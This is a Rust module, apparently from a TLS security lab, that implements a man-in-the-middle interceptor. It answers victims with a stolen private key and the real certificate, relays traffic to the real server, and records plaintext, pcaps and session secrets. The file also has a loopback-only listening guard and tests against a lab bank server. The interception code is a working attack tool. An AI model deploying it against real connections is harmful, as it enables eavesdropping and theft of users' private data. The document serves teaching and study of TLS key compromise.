//! The man in the middle with a stolen key: it answers the victim as the server (the lab's own
//! server endpoint, configured with the stolen private key and the real certificate, so the
//! victim's certificate check passes), connects to the real server as a client, and relays the
//! plaintext both ways — keeping a copy of it, the victim-side TLS bytes as a pcap and, through
//! the server config's key log, the victim-side session secrets.
//!
//! The library prints nothing: each finished connection is handed to a callback as an
//! [`Intercepted`], and [`view::VictimView`] sums up what the victim could have noticed.

mod recorder;
pub mod view;

use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use crate::capture::writer::{PcapWriter, TcpConversation};
use crate::capture::CaptureError;
use crate::crypto::rng::{self, LabRng};
use crate::endpoint::client::{client_connection, ClientConfig};
use crate::endpoint::conn::SessionSummary;
use crate::endpoint::server::{server_connection, ServerConfig};
use crate::endpoint::stream::TlsStream;
use crate::error::Error;
use recorder::{Recording, VictimSocket};

/// How long one relay read waits before looking at the other side.
const POLL: Duration = Duration::from_millis(20);

/// How to run a [`Mitm`].
pub struct MitmConfig {
    /// The victim-facing server: the stolen key, the real certificate chain, and the victim-side
    /// key log (`keylog`).
    pub server: Arc<ServerConfig>,
    /// The real server.
    pub upstream: SocketAddr,
    /// How the mitm talks to the real server (suites offered, certificate trust).
    pub upstream_client: Arc<ClientConfig>,
    /// Write the victim-side TLS bytes here (as `<file>.partial` until [`Mitm::stop`]).
    pub capture: Option<PathBuf>,
    /// Limit for each handshake, and for silence on a relayed connection.
    pub timeout: Duration,
    /// How long [`Mitm::stop`] waits for live connections before cutting them.
    pub stop_grace: Duration,
}

/// Why the mitm cannot start or finish.
#[derive(Debug)]
pub enum MitmError {
    /// `--listen` is not a loopback address and remote listening was not allowed.
    RemoteListen(SocketAddr),
    Capture(CaptureError),
    Io(std::io::Error),
}

impl std::fmt::Display for MitmError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::RemoteListen(a) => write!(
                f,
                "refusing to listen on {a}: not a loopback address; the mitm intercepts other \
                 people's traffic, so it stays on 127.0.0.1/::1 unless --allow-remote is given"
            ),
            Self::Capture(e) => write!(f, "{e}"),
            Self::Io(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for MitmError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Self::Capture(e) => Some(e),
            Self::Io(e) => Some(e),
            Self::RemoteListen(_) => None,
        }
    }
}

/// Refuses a listening address that is not loopback unless `allow_remote`.
pub fn check_listen(addr: SocketAddr, allow_remote: bool) -> Result<(), MitmError> {
    let loopback = match addr.ip() {
        IpAddr::V4(v4) => v4.is_loopback(),
        IpAddr::V6(v6) => v6.is_loopback() || v6.to_ipv4_mapped().is_some_and(|v| v.is_loopback()),
    };
    if loopback || allow_remote {
        Ok(())
    } else {
        Err(MitmError::RemoteListen(addr))
    }
}

/// One victim connection, at its end.
#[derive(Debug)]
pub struct Intercepted {
    /// Accept order, from 0.
    pub number: u64,
    pub victim: SocketAddr,
    /// The victim's handshake with the mitm, if it completed.
    pub victim_session: Option<SessionSummary>,
    /// The mitm's handshake with the real server, if it completed.
    pub upstream_session: Option<SessionSummary>,
    /// Plaintext the victim sent (and the mitm passed on to the real server).
    pub to_server: Vec<u8>,
    /// Plaintext the real server sent (and the mitm passed on to the victim).
    pub to_victim: Vec<u8>,
    /// How the connection ended: `Ok` when both sides closed.
    pub outcome: Result<(), Error>,
}

/// What a stopped mitm did.
#[derive(Debug)]
pub struct MitmSummary {
    pub connections: u64,
    /// The finished capture and its packet count, if one was written.
    pub capture: Option<(PathBuf, u64)>,
}

struct Shared {
    config: MitmConfig,
    local: SocketAddr,
    recording: Option<Arc<Recording>>,
    stop: AtomicBool,
    kill: AtomicBool,
    counts: Mutex<(u64, u64)>,
    changed: Condvar,
    handles: Mutex<Vec<JoinHandle<()>>>,
    report: Arc<dyn Fn(Intercepted) + Send + Sync>,
}

/// A running man in the middle. Stop it with [`Mitm::stop`].
pub struct Mitm {
    shared: Arc<Shared>,
    accept: Option<JoinHandle<()>>,
}

fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

impl Mitm {
    /// Starts accepting victims on `listener`; each finished connection goes to `report`.
    pub fn start(
        listener: TcpListener,
        config: MitmConfig,
        report: Arc<dyn Fn(Intercepted) + Send + Sync>,
    ) -> Result<Mitm, MitmError> {
        let local = listener.local_addr().map_err(MitmError::Io)?;
        let recording = match &config.capture {
            Some(path) => Some(Arc::new(Recording {
                writer: PcapWriter::create(path)
                    .map_err(MitmError::Capture)?
                    .shared(),
                error: Mutex::new(None),
            })),
            None => None,
        };
        let shared = Arc::new(Shared {
            config,
            local,
            recording,
            stop: AtomicBool::new(false),
            kill: AtomicBool::new(false),
            counts: Mutex::new((0, 0)),
            changed: Condvar::new(),
            handles: Mutex::new(Vec::new()),
            report,
        });
        let s = Arc::clone(&shared);
        let accept = thread::Builder::new()
            .name("mitm-accept".into())
            .spawn(move || accept_loop(&s, &listener))
            .map_err(MitmError::Io)?;
        Ok(Mitm {
            shared,
            accept: Some(accept),
        })
    }

    pub fn local_addr(&self) -> SocketAddr {
        self.shared.local
    }

    /// Waits until at least `connections` were accepted and all of them finished; false on
    /// timeout.
    pub fn wait_idle(&self, connections: u64, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        let mut c = lock(&self.shared.counts);
        loop {
            let (accepted, active) = *c;
            if accepted >= connections && active == 0 {
                return true;
            }
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return false;
            }
            c = match self.shared.changed.wait_timeout(c, left) {
                Ok((g, _)) => g,
                Err(p) => p.into_inner().0,
            };
        }
    }

    /// Stops accepting, lets live connections finish (cutting them after the grace period),
    /// and puts the capture in place.
    pub fn stop(mut self) -> Result<MitmSummary, MitmError> {
        let sh = Arc::clone(&self.shared);
        sh.stop.store(true, Ordering::SeqCst);
        if let Some(h) = self.accept.take() {
            // Wake the blocked accept() with a connection of our own.
            let mut addr = sh.local;
            if addr.ip().is_unspecified() {
                addr.set_ip(IpAddr::from([127, 0, 0, 1]));
            }
            if TcpStream::connect_timeout(&addr, Duration::from_secs(1)).is_ok() {
                let _ = h.join();
            }
        }
        let accepted = lock(&sh.counts).0;
        if !self.wait_idle(accepted, sh.config.stop_grace) {
            sh.kill.store(true, Ordering::SeqCst);
        }
        let handles: Vec<_> = lock(&sh.handles).drain(..).collect();
        for h in handles {
            let _ = h.join();
        }
        let capture = match &sh.recording {
            Some(rec) => {
                let mut w = lock(&rec.writer);
                let packets = w.packets();
                let path = w.finish().map_err(MitmError::Capture)?;
                if let Some(e) = lock(&rec.error).take() {
                    return Err(MitmError::Capture(e));
                }
                Some((path, packets))
            }
            None => None,
        };
        Ok(MitmSummary {
            connections: accepted,
            capture,
        })
    }
}

fn accept_loop(sh: &Arc<Shared>, listener: &TcpListener) {
    let mut parent = rng::from_os();
    for incoming in listener.incoming() {
        if sh.stop.load(Ordering::SeqCst) {
            return;
        }
        let (sock, peer) = match incoming.and_then(|s| Ok((s.peer_addr()?, s))) {
            Ok((peer, s)) => (s, peer),
            Err(e) => {
                log::warn!("mitm: accept failed: {e}");
                thread::sleep(Duration::from_millis(20));
                continue;
            }
        };
        let number = {
            let mut c = lock(&sh.counts);
            c.0 += 1;
            c.1 += 1;
            c.0 - 1
        };
        let (server_rng, client_rng) = (rng::fork(&mut parent), rng::fork(&mut parent));
        let s = Arc::clone(sh);
        let spawned = thread::Builder::new()
            .name(format!("mitm-{number}"))
            .stack_size(crate::lab::connection_thread::STACK)
            .spawn(move || {
                let done = intercept(&s, number, sock, peer, server_rng, client_rng);
                crate::lab::connection_thread::scrub_stack();
                (s.report)(done);
                let mut c = lock(&s.counts);
                c.1 = c.1.saturating_sub(1);
                s.changed.notify_all();
            });
        match spawned {
            Ok(h) => {
                let mut handles = lock(&sh.handles);
                handles.retain(|h| !h.is_finished());
                handles.push(h);
            }
            Err(e) => {
                log::error!("mitm: cannot start a thread for connection {number}: {e}");
                let mut c = lock(&sh.counts);
                c.1 = c.1.saturating_sub(1);
                sh.changed.notify_all();
            }
        }
    }
}

/// One victim: handshake as the server, then as a client upstream, then relay.
fn intercept(
    sh: &Shared,
    number: u64,
    sock: TcpStream,
    peer: SocketAddr,
    server_rng: LabRng,
    client_rng: LabRng,
) -> Intercepted {
    let mut done = Intercepted {
        number,
        victim: peer,
        victim_session: None,
        upstream_session: None,
        to_server: Vec::new(),
        to_victim: Vec::new(),
        outcome: Ok(()),
    };
    let rec = sh.recording.as_ref().map(|r| {
        let conv = TcpConversation::new(peer, sh.local, rand::random(), rand::random());
        (Arc::clone(r), conv)
    });
    let _ = sock.set_nodelay(true);
    let _ = sock.set_write_timeout(Some(sh.config.timeout));
    let mut victim_sock = VictimSocket::new(sock, rec);
    let victim_conn = match server_connection(Arc::clone(&sh.config.server), server_rng) {
        Ok(c) => c,
        Err(e) => {
            victim_sock.finish();
            done.outcome = Err(e);
            return done;
        }
    };
    let mut victim = TlsStream::new(victim_conn, victim_sock);
    done.outcome = run(sh, &mut victim, client_rng, &mut done);
    victim.sock.finish();
    done
}

fn run(
    sh: &Shared,
    victim: &mut TlsStream<VictimSocket>,
    client_rng: LabRng,
    done: &mut Intercepted,
) -> Result<(), Error> {
    let timeout = sh.config.timeout;
    // 1. The victim's handshake, with the stolen key: its certificate check sees the real
    //    certificate, and our signature (or RSA decryption) proves we hold its key.
    victim.set_deadline(timeout, "waiting for the victim's handshake");
    victim.handshake()?;
    done.victim_session = Some(victim.conn.summary().clone());
    // 2. The real server, as an ordinary client.
    let sock = TcpStream::connect_timeout(&sh.config.upstream, timeout).map_err(|e| {
        Error::Io(std::io::Error::new(
            e.kind(),
            format!(
                "cannot connect to the real server {}: {e}",
                sh.config.upstream
            ),
        ))
    })?;
    let _ = sock.set_nodelay(true);
    sock.set_write_timeout(Some(timeout))?;
    let mut upstream = TlsStream::new(
        client_connection(Arc::clone(&sh.config.upstream_client), client_rng)?,
        sock,
    );
    upstream.set_deadline(timeout, "waiting for the real server's handshake");
    upstream.handshake()?;
    done.upstream_session = Some(upstream.conn.summary().clone());
    // 3. Relay plaintext both ways, keeping a copy, until both sides have closed.
    let result = relay(sh, victim, &mut upstream, done);
    let _ = upstream.sock.shutdown(Shutdown::Both);
    result
}

fn relay(
    sh: &Shared,
    victim: &mut TlsStream<VictimSocket>,
    upstream: &mut TlsStream<TcpStream>,
    done: &mut Intercepted,
) -> Result<(), Error> {
    let (mut victim_open, mut upstream_open) = (true, true);
    let mut last = Instant::now();
    while victim_open || upstream_open {
        if sh.kill.load(Ordering::SeqCst) {
            return Err(Error::Internal("cut off: the mitm was stopped".into()));
        }
        if victim_open {
            victim.set_deadline(POLL, "waiting for the victim");
            match victim.read_some() {
                Ok(d) if d.is_empty() => {
                    // The victim closed: close the real server's side too (RFC 8446 §6.1).
                    victim_open = false;
                    let _ = upstream.close();
                }
                Ok(d) => {
                    upstream.write_all(&d)?;
                    done.to_server.extend_from_slice(&d);
                    last = Instant::now();
                }
                Err(Error::Timeout(_)) => {}
                Err(e) => return Err(e),
            }
        }
        if upstream_open {
            upstream.set_deadline(POLL, "waiting for the real server");
            match upstream.read_some() {
                Ok(d) if d.is_empty() => {
                    upstream_open = false;
                    let _ = victim.close();
                    let _ = victim.sock.sock.shutdown(Shutdown::Write);
                }
                Ok(d) => {
                    victim.write_all(&d)?;
                    done.to_victim.extend_from_slice(&d);
                    last = Instant::now();
                }
                Err(Error::Timeout(_)) => {}
                Err(e) => return Err(e),
            }
        }
        if last.elapsed() > sh.config.timeout {
            return Err(Error::Timeout("relaying: neither side sent anything"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::mpsc;
    use std::time::SystemTime;

    use crate::endpoint::client::ServerVerification;
    use crate::lab::bank_client::exchange;
    use crate::lab::bank_server::{self, ServerOptions};
    use crate::pki;
    use crate::suites::{self, Suite};

    fn identity(seed: u64) -> (Arc<rsa::PrivateKey>, Vec<u8>) {
        let mut r = rng::from_seed(seed, "mitm test identity");
        let key = pki::generate_key(&mut r, 2048).expect("key");
        let not_before = SystemTime::now() - Duration::from_secs(3600);
        let cert = pki::self_signed_cert(&key, &pki::CertParams::lab_default(not_before), &mut r)
            .expect("certificate");
        (Arc::new(key), cert)
    }

    fn server_config(key: &Arc<rsa::PrivateKey>, cert: &[u8]) -> Arc<ServerConfig> {
        Arc::new(ServerConfig {
            key: Arc::clone(key),
            cert_chain: vec![cert.to_vec()],
            suites: vec![
                suites::TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,
                suites::TLS13_AES_128_GCM_SHA256,
            ],
            keylog: None,
            dh_group: crate::crypto::ffdh::DhGroup::ffdhe2048(),
            ephemerals: Default::default(),
            padding_oracle: Default::default(),
            resumption: Default::default(),
            fast_key: Default::default(),
        })
    }

    fn client_config(suite: Suite, trust: &[u8]) -> Arc<ClientConfig> {
        Arc::new(ClientConfig {
            suites: vec![suite],
            server_name: "localhost".into(),
            verification: ServerVerification::TrustAnchor(trust.to_vec()),
            offer_ems: true,
            offer_etm: true,
            keylog: None,
            dh_min_bits: 2048,
            resumption: Default::default(),
            tls13_group: Default::default(),
            ephemeral_log: None,
        })
    }

    /// Victims that trust the real certificate get the real bank's page through the mitm, which
    /// keeps both directions' plaintext and sees the real server send the same certificate; a
    /// victim that trusts another certificate refuses the handshake and nothing is relayed.
    #[test]
    fn test_relay_and_refusal() {
        let (key, cert) = identity(17);
        let (_, other_cert) = identity(18);
        let real = bank_server::spawn(
            TcpListener::bind("127.0.0.1:0").expect("bind"),
            ServerOptions {
                config: server_config(&key, &cert),
                timeout: Duration::from_secs(5),
                max_connections: 8,
                seed: None,
            },
            false,
        )
        .expect("server");
        let (tx, rx) = mpsc::channel();
        let tx = Mutex::new(tx);
        let mitm = Mitm::start(
            TcpListener::bind("127.0.0.1:0").expect("bind"),
            MitmConfig {
                server: server_config(&key, &cert),
                upstream: real.local_addr,
                upstream_client: client_config(suites::TLS13_AES_128_GCM_SHA256, &cert),
                capture: None,
                timeout: Duration::from_secs(5),
                stop_grace: Duration::from_secs(1),
            },
            Arc::new(move |c| {
                let _ = lock(&tx).send(c);
            }),
        )
        .expect("mitm");
        let at = mitm.local_addr();
        for (i, suite) in [
            suites::TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,
            suites::TLS13_AES_128_GCM_SHA256,
        ]
        .into_iter()
        .enumerate()
        {
            let request = format!("GET /victim{i} HTTP/1.0\r\n\r\n");
            let done = exchange(
                at,
                client_config(suite, &cert),
                rng::from_os(),
                request.as_bytes(),
                Duration::from_secs(5),
            )
            .expect("victim exchange");
            let page = String::from_utf8_lossy(&done.response).into_owned();
            assert!(
                page.contains(&format!("you asked for GET /victim{i}")),
                "{page}"
            );
            let c = rx.recv_timeout(Duration::from_secs(5)).expect("report");
            assert!(c.outcome.is_ok(), "{:?}", c.outcome);
            assert_eq!(c.to_server, request.as_bytes());
            assert_eq!(c.to_victim, done.response);
            assert_eq!(c.victim_session.as_ref().and_then(|s| s.suite), Some(suite));
            let view = view::VictimView::new(std::slice::from_ref(&cert), true, &[&c]);
            assert_eq!(view.chain_identical, Some(true));
        }
        let refused = exchange(
            at,
            client_config(suites::TLS13_AES_128_GCM_SHA256, &other_cert),
            rng::from_os(),
            b"GET /never HTTP/1.0\r\n\r\n",
            Duration::from_secs(5),
        );
        assert!(refused.is_err());
        let c = rx.recv_timeout(Duration::from_secs(5)).expect("report");
        assert!(c.victim_session.is_none() && c.upstream_session.is_none());
        assert!(c.to_server.is_empty() && c.outcome.is_err());
        let summary = mitm.stop().expect("stop");
        assert_eq!(summary.connections, 3);
        real.stop();
    }

    #[test]
    fn test_check_listen() {
        for ok in [
            "127.0.0.1:1",
            "127.3.4.5:0",
            "[::1]:443",
            "[::ffff:127.0.0.1]:1",
        ] {
            assert!(check_listen(ok.parse().unwrap(), false).is_ok(), "{ok}");
        }
        for remote in ["0.0.0.0:1", "10.0.0.1:443", "[::]:1", "192.168.1.2:8443"] {
            let a: SocketAddr = remote.parse().unwrap();
            let e = check_listen(a, false).unwrap_err();
            assert!(e.to_string().contains("--allow-remote"), "{e}");
            assert!(check_listen(a, true).is_ok());
        }
    }
}
